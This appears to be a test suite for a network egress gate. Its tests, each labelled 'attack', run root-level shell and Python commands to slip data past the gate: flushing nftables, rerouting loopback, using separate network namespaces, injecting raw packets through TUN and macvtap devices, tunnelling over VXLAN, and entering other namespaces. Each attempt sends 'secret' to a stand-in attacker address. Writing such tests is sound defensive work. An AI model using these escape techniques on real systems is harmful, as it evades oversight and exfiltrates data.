/** Root in the scope changes the network around it: rules, routes, devices, namespaces. */

import assert from "node:assert/strict";
import { inPython, inShell, OWN_RUN, SEND, SENDING } from "../support/attack.ts";
import { some } from "../support/log.ts";
import { suite } from "../support/suite.ts";

const test = suite();
const control = SENDING;

test("attack: nft flush ruleset", async (scene) => {
  const run = await inShell(scene, `nft flush ruleset && echo flushed; ${SEND}`, { control });
  assert.match(run.stdout, /^flushed/);
  some(run.log, { type: "gate", dst_ip: "203.0.113.66", dst_port: 9000 });
});

test("attack: new routes and rules, also one that takes loopback's addresses to the uplink", async (scene) => {
  await inShell(
    scene,
    `ip route add 203.0.113.66/32 via 192.0.2.1 dev uplink table 77; ip rule add pref 1 lookup 77
    ip route add 127.66.0.0/16 via 192.0.2.1 dev uplink table 78; ip rule add pref 0 to 127.66.0.0/16 lookup 78
    echo 1 >/proc/sys/net/ipv4/conf/uplink/route_localnet
    nft 'add table ip away; add chain ip away out { type filter hook output priority 500; }'
    nft 'add rule ip away out ip daddr 127.66.0.1 ip daddr set 203.0.113.66'
    echo secret | nc -u -w 1 127.66.0.1 9000; ${SEND}
    ip rule del pref 1; ip rule del pref 0 to 127.66.0.0/16; nft delete table ip away
    ip route flush table 77; ip route flush table 78`,
  );
});

test("attack: netfilter sends loopback's packets on to the uplink", async (scene) => {
  const run = await inShell(
    scene,
    `nft -f - <<'END'
table netdev away {
  chain loop {
    type filter hook ingress device "lo" priority 0;
    udp dport 9009 ip saddr set 192.0.2.2 ip daddr set 203.0.113.66 fwd ip to 192.0.2.1 device "uplink"
  }
}
END
    for i in 1 2; do echo secret | nc -u -w 1 127.0.0.1 9009; done
    nft delete table netdev away`,
  );
  some(run.log, { type: "gate", dst_ip: "203.0.113.66", message: "udp packet, forwarded" });
});

/** Shell: starts a process `p` in a network namespace of its own. */
const OTHER_NAMESPACE = `
unshare --net sleep 60 & p=$!
until [ "$(readlink /proc/$p/ns/net)" != "$(readlink /proc/self/ns/net)" ]; do :; done
inside() { nsenter --net=/proc/$p/ns/net "$@"; }
`;

test("attack: a network namespace of its own with a macvlan device on the uplink", async (scene) => {
  await inShell(
    scene,
    `${OTHER_NAMESPACE}
    ip link add link uplink name mv0 type macvlan mode bridge; ip link set mv0 netns $p
    inside sh -c 'ip addr add 192.0.2.77/24 dev mv0; ip link set mv0 up; ip link set lo up
      ip route add default via 192.0.2.1; until ip link show mv0 | grep -q LOWER_UP; do :; done'
    inside sh -c '${SEND}'
    kill $p`,
  );
});

test("attack: a network namespace of its own behind a veth pair, forwarded and masqueraded", async (scene) => {
  await inShell(
    scene,
    `${OTHER_NAMESPACE}
    ip link add v0 type veth peer name v1; ip link set v1 netns $p
    ip addr add 10.66.0.1/24 dev v0; ip link set v0 up; echo 1 >/proc/sys/net/ipv4/ip_forward
    iptables -t nat -A POSTROUTING -s 10.66.0.0/24 -j MASQUERADE
    inside sh -c 'ip addr add 10.66.0.2/24 dev v1; ip link set v1 up; ip link set lo up; ip route add default via 10.66.0.1'
    inside sh -c '${SEND}'
    iptables -t nat -D POSTROUTING -s 10.66.0.0/24 -j MASQUERADE
    echo 0 >/proc/sys/net/ipv4/ip_forward; ip link del v0; kill $p`,
  );
});

test("attack: packets written into a TUN device, for the machine to forward", async (scene) => {
  const run = await inPython(
    scene,
    `
import fcntl, socket, struct, subprocess
tun = open("/dev/net/tun", "r+b", buffering=0)
fcntl.ioctl(tun, 0x400454ca, struct.pack("16sH22x", b"hole", 0x1001))
def setting(name, value): open("/proc/sys/net/ipv4/" + name, "w").write(value)
setting("ip_forward", "1")
for name in ("all", "hole"): setting(f"conf/{name}/rp_filter", "0")
subprocess.run("ip address add 10.99.0.1/24 dev hole; ip link set hole up", shell=True, check=True)
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff
udp = struct.pack("!HHHH", 4444, 9000, 14, 0) + b"secret"
head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
    socket.inet_aton("192.0.2.99"), socket.inet_aton("203.0.113.66"))
for _ in range(3): tun.write(head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp)
setting("ip_forward", "0")
`,
  );
  some(run.log, { type: "gate", dst_ip: "203.0.113.66", message: "udp packet, forwarded" });
});

test("attack: frames written into a macvtap device", async (scene) => {
  const run = await inPython(
    scene,
    `
import os, socket, struct, subprocess
def tool(command): subprocess.run(command, shell=True, check=True)
tool("ip link add link uplink name mt0 type macvtap mode bridge; ip link set mt0 up")
place = f"/tmp/macvtap-{os.getpid()}"
os.makedirs(place + "/sys")
try:
    # A view of this network namespace's devices.
    tool(f"mount -t sysfs none {place}/sys")
    folder = f"{place}/sys/class/net/mt0/macvtap"
    major, minor = open(f"{folder}/{os.listdir(folder)[0]}/dev").read().strip().split(":")
    tool(f"umount {place}/sys")
    os.mknod(place + "/tap", 0o20600, os.makedev(int(major), int(minor)))
    tap = os.open(place + "/tap", os.O_RDWR)
    udp = struct.pack("!HHHH", 4444, 9000, 14, 0) + b"secret"
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
        socket.inet_aton("192.0.2.2"), socket.inet_aton("203.0.113.66"))
    total = sum(struct.unpack("!10H", head)); total = (total >> 16) + (total & 0xffff)
    head = head[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xffff) + head[12:]
    frame = b"\\xff" * 6 + bytes.fromhex("020000000001") + b"\\x08\\x00" + head + udp
    os.write(tap, bytes(10) + frame)
    print("written")
finally:
    tool(f"rm -f {place}/tap; rmdir {place}/sys {place}; ip link del mt0")
`,
  );
  assert.match(run.stdout, /^written/, run.stderr);
  some(run.log, { type: "gate", dst_ip: "203.0.113.66", message: "udp packet" });
});

test("attack: a tunnel device whose packets the kernel sends", async (scene) => {
  await inShell(
    scene,
    `ip link add vx type vxlan id 5 dstport 4789 remote 203.0.113.66 dev uplink
    echo 1 >/proc/sys/net/ipv6/conf/vx/disable_ipv6
    ip addr add 10.88.0.1/24 dev vx; ip link set vx up
    ip neigh add 10.88.0.2 lladdr 02:00:00:00:00:02 dev vx
    for t in nat mangle filter; do iptables -t $t -F; done
    for i in 1 2; do echo secret | nc -u -w 1 10.88.0.2 9000; done
    ip link del vx`,
  );
});

test("attack: entering the network namespace of a role", async (scene) => {
  const run = await inShell(
    scene,
    `${OWN_RUN}
    for p in $(cat $cg/roles/cgroup.procs) 1; do
      nsenter --net=/proc/$p/ns/net true && echo "entered $p"
    done
    ${SEND}`,
    { control },
  );
  assert.doesNotMatch(run.stdout, /entered/);
});
